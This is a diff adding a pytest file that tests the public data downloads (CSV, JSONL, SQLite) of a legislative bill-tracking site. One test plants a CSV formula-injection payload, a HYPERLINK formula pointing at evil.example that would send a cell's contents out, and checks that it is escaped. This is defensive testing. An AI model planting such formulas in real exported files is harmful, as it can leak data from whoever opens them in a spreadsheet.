@@ -1,0 +1,179 @@
+"""Downloads: documented to the last column, harmless in a spreadsheet, and nothing in them that is only ours."""
+
+from __future__ import annotations
+
+import csv
+import json
+import re
+import sqlite3
+from datetime import datetime
+from pathlib import Path
+
+import msgspec
+from hypothesis import given
+from hypothesis import strategies as st
+from sqlite_utils import Database
+
+from billwatch.migrations import TABLES, migrations
+from billwatch_site import Settings, build
+from billwatch_site.downloads import bill_file, database, page
+from billwatch_site.downloads.columns import BILLS, CHANGES
+from billwatch_site.downloads.dictionary import tables
+from billwatch_site.downloads.tables import cells, harmless
+from billwatch_site.records import BillRecord
+
+STORE = (Path(__file__).parents[2] / "docs/store.md").read_text()
+
+
+def rows(file: Path) -> list[dict[str, str]]:
+    with file.open(encoding="utf-8-sig", newline="") as lines:
+        return list(csv.DictReader(lines))
+
+
+def documented() -> dict[str, dict[str, str]]:
+    """The tables of docs/store.md: each column with its meaning."""
+    found = {}
+    for section in re.split(r"^## ", STORE, flags=re.MULTILINE)[1:]:
+        columns = section.split("| kind |")[0]
+        if "| column |" in columns:
+            found[section.split()[0]] = dict(re.findall(r"^\| `([^`]+)` \| (.*?) \|$", columns, flags=re.MULTILINE))
+    return found
+
+
+def test_the_dictionary_says_what_the_documentation_says() -> None:
+    """Table by table and column by column; both have every table and column that there is."""
+    assert {name: table.columns for name, table in tables().items()} == documented()
+    db = Database(memory=True)
+    migrations.apply(db)
+    real = {name: [column.name for column in db.table(name).columns] for name in TABLES}
+    assert {name: list(table.columns) for name, table in tables().items()} == real
+
+
+def test_every_field_of_a_bills_file_is_explained(site: Path) -> None:
+    """And no other is."""
+    found = json.loads((site / "ny/2025/S4505/bill.json").read_bytes())
+    assert list(found) == list(bill_file.fields())
+    assert all(bill_file.fields().values())
+    assert {field.name for field in msgspec.structs.fields(BillRecord)} - set(found) == bill_file.WITHHELD
+    assert found["page"] == "https://bills.example.org/billwatch/ny/2025/S4505/"
+    assert found["actions"][-1]["text"] == "APPROVAL MEMO.68"
+
+
+def test_csv_and_json_lines_are_the_same(site: Path) -> None:
+    """The same rows in the same order under the same names."""
+    for name, columns in (("bills", BILLS), ("changes", CHANGES)):
+        table = rows(site / f"data/{name}.csv")
+        lines = [json.loads(line) for line in (site / f"data/{name}.jsonl").read_bytes().splitlines()]
+        assert list(table[0]) == list(lines[0]) == [column.name for column in columns]
+        assert [dict(zip(line, cells(list(line.values())), strict=True)) for line in lines] == table
+    assert {row["id"] for row in rows(site / "data/bills.csv")} >= {"ny/2017/S9191", "ny/2025/S4505"}
+
+
+def test_values_are_what_they_say(site: Path) -> None:
+    """Kinds are kept: lists, flags, dates and instants."""
+    checks = {
+        "text": lambda v: isinstance(v, str),
+        "date": lambda v: v == "" or re.fullmatch(r"\d{4}-\d\d-\d\d", v),
+        "instant": lambda v: v == "" or datetime.fromisoformat(v).tzinfo,
+        "flag": lambda v: isinstance(v, bool),
+        "list": lambda v: isinstance(v, list) and all(isinstance(part, str) for part in v),
+    }
+    for name, columns in (("bills", BILLS), ("changes", CHANGES)):
+        for line in (site / f"data/{name}.jsonl").read_bytes().splitlines():
+            found = json.loads(line)
+            assert [c.name for c in columns if not checks[c.kind](found[c.name])] == []
+
+
+def test_a_formula_is_text_in_csv_and_itself_in_json(
+    store: Path, settings: Settings, now: datetime, tmp_path: Path
+) -> None:
+    """A title that a spreadsheet would run."""
+    formula = '=HYPERLINK("https://evil.example/"&A1,"click")'
+    db = Database(store)
+    db.execute("update bills set title = ? where id = 'ny/2025/S404'", [formula])
+    db.conn.commit()
+    build(store, tmp_path / "public", settings, now)
+    (row,) = (row for row in rows(tmp_path / "public/data/bills.csv") if row["id"] == "ny/2025/S404")
+    assert row["title"] == f"'{formula}"
+    assert json.loads((tmp_path / "public/ny/2025/S404/bill.json").read_bytes())["title"] == formula
+
+
+FORMULA = "=+-@\t\r＝＋－＠"
+nasty = st.text(st.sampled_from(f"{FORMULA} \n;,|'\"a1\u00a0"), max_size=30)
+
+
+@given(text=st.one_of(st.text(max_size=60), nasty))
+def test_no_cell_begins_a_formula(text: str) -> None:
+    """Not the cell, not a line of it, not what a spreadsheet cuts off at another separator; and nothing is lost."""
+    written = cells([text])[0]
+    assert written == harmless(text)
+    for part in re.split(r"[\n\r;,|\t]", written):
+        assert not part.lstrip().startswith(tuple("=+-@＝＋－＠")), written
+    assert not written.startswith(("\t", "\r"))
+    assert written.replace("'", "") == text.replace("'", "")
+    if not any(sign in text for sign in FORMULA):
+        assert written == text
+
+
+def test_the_database_holds_what_is_published_and_no_more(site: Path, tmp_path: Path) -> None:
+    """Whole, with the tables and columns that the data page explains; no raw answers, no places in the archive."""
+    db = sqlite3.connect(site / "data/bills.db")
+    assert db.execute("pragma integrity_check").fetchone() == ("ok",)
+    found = {
+        name: [row[1] for row in db.execute(f"pragma table_info({name})")]
+        for (name,) in db.execute("select name from sqlite_master where type = 'table' order by rowid")
+    }
+    assert found == {name: list(table.columns) for name, table in page.published_tables()}
+    assert not {"facts", "digest", "etag", "file"} & {column for columns in found.values() for column in columns}
+    ids = {row["id"] for row in rows(site / "data/bills.csv")}
+    assert {name for (name,) in db.execute("select id from bills")} == ids
+    for table in ("actions", "changes", "observations", "topics"):
+        assert {name for (name,) in db.execute(f"select bill from {table}")} <= ids
+    assert db.execute("select count(*) from fetches").fetchone() == (1,)
+    assert db.execute("pragma freelist_count").fetchone() == (0,)
+
+
+def test_a_bill_that_is_not_published_is_not_in_it(
+    store: Path, settings: Settings, now: datetime, tmp_path: Path
+) -> None:
+    """Nor anything about it."""
+    db = Database(store)
+    db.table("bills").insert(
+        {"id": "ny/2025/S5555", "legislature": "ny", "session": "2025", "identifier": "S5555", "followed": 0,
+         "first_seen_at": "2025-06-03T09:00:00+00:00", "changed_at": "2025-06-03T09:00:00+00:00"}
+    )  # fmt: skip
+    db.table("topics").insert({"bill": "ny/2025/S5555", "topic": "x", "area": "y", "evidence": ""})
+    db.close()
+    build(store, tmp_path / "public", settings, now)
+    assert b"S5555" not in (tmp_path / "public/data/bills.db").read_bytes()
+
+
+def test_the_same_store_gives_the_same_database(store: Path) -> None:
+    """To the byte, whatever was written and deleted in the store meanwhile; and the store stays as it was."""
+    db = sqlite3.connect(store)
+
+    def made() -> bytes:
+        found = database.published(db, ["ny/2017/S9191", "ny/2025/S404"])
+        db.rollback()
+        database.let_go(db)
+        return found
+
+    before = made()
+    db.execute("create table scratch (a)")
+    db.executemany("insert into scratch values (?)", [("x" * 999,)] * 999)
+    db.execute("drop table scratch")
+    db.execute("update bills set title = title")
+    db.commit()
+    assert made() == before
+    assert "published" not in {name for _, name, _ in db.execute("pragma database_list")}
+
+
+def test_the_data_page_names_every_file_and_field(site: Path) -> None:
+    """And each file that it names is there, of the size that it says."""
+    html = (site / "data/index.html").read_text()
+    for name in ("bills.csv", "bills.jsonl", "changes.csv", "changes.jsonl", "bills.db"):
+        size = page.in_bytes((site / "data" / name).stat().st_size)
+        assert f'<a href="{name}">' in html and f">{size}</td>" in html
+    for column in (*BILLS, *CHANGES):
+        assert f"<code>{column.name}</code>" in html
+    assert "CC0 1.0" in html
